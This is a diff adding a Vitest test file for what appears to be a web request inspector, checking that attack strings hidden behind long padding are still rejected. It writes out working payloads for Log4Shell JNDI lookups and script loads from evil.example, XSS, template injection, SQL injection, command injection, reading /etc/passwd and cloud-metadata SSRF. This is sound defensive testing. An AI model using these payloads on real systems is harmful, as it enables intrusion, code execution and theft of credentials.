@@ -1,0 +1,34 @@
+import { expect, test } from 'vitest'
+import { inspectBody } from '../support/inspect.ts'
+
+// Whatever a detector bounds so that its cost stays linear, an attacker can use up first: what stands behind must be found.
+
+const JNDI = '$' + '{jndi:ldap://evil.example/a}'
+const SCRIPT = '<script src=//evil.example/x.js></script>'
+
+test.each<[string, string]>([
+  ['tags within the attributes of tags', `${'x=1<p '.repeat(3_000)}${SCRIPT}`],
+  ['tags within quoted attributes', `${"<p x='<p '".repeat(2_000)}${SCRIPT}`],
+  ['tags that load something, there', `${'x=1<p '.repeat(3_000)}<iframe srcdoc=x>`],
+  ['attributes that are no handlers', `${'on=1 '.repeat(3_000)}<img src=x onerror=alert(1)>`],
+  ['comments that don’t end', `${'<!--'.repeat(3_000)}${SCRIPT}`],
+  ['styles that don’t end', `${'<style>'.repeat(500)}${SCRIPT}`],
+  ['a quote that doesn’t end', `${'<a b="'.repeat(2_001)}${SCRIPT}`],
+  ['brackets', `${'[]['.repeat(2_000)}${SCRIPT}`],
+  ['code in sentences', `${'We said eval("x") and it was eval("y"). '.repeat(20)}'; system('id'); //`],
+  ['lookups that don’t end', `${'$'}${'{a$'.repeat(40)}{a${JNDI}`],
+  ['a lookup with much in it', `$` + `{lower:${'a'.repeat(200)}${JNDI}}`],
+  ['expressions that don’t end', `${'{{'.repeat(50)}''.__class__.__mro__}}`],
+  ['an expression of many tokens', `{{ ${'1,'.repeat(300)} ''.__class__.__mro__[1].__subclasses__() }}`],
+  [
+    'prose that sounds like SQL',
+    `${'select a plan from the list and '.repeat(200)}x' union select password from users-- `,
+  ],
+  ['apostrophes', `${"it's ".repeat(3_000)}' or '1'='1`],
+  ['separators', `${'a;b '.repeat(3_000)};cat /etc/passwd`],
+  ['a long path', `${'x/'.repeat(5_000)}../../../../etc/passwd`],
+  ['URLs', `${'http://a.example '.repeat(900)}http://169.254.169.254/latest/meta-data/`],
+])('behind %s', async (_name, value) => {
+  const { verdict } = await inspectBody([Buffer.from(JSON.stringify({ note: value }))], { type: 'application/json' })
+  expect(verdict.status).toBe(403)
+})
